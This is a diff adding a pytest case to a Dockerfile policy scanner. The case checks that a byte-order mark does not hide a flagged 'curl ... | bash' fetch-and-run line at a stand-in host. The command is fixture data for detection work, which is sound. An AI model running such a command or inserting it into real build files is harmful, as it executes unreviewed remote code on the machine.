@@ -221,3 +221,11 @@ def test_credentials_in_urls_are_redacted(tmp_path: Path) -> None:
     for secret in ("S3cretPassw0rd9", "glpat-", "ghp_A1b2", "user:", "oauth2:"):
         assert secret not in messages
     assert "***@weights.example.com" in messages and "***@github.com/org/repo.git" in messages
+
+
+def test_a_byte_order_mark_does_not_hide_the_checks(tmp_path: Path) -> None:
+    path = tmp_path / "Dockerfile"
+    path.write_bytes(b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN curl -fsSL https://x.example/i.sh | bash\nUSER app\n")
+    assert [f.rule_id for f in findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path))] == ["MLS503"]
+    path.write_bytes(b"\xef\xbb\xbfFROM " + PIN.encode() + b"\nRUN echo ok\nUSER app\n")
+    assert findings_of(DOCKER_SPEC, path, "Dockerfile", Policy(root=tmp_path)) == []
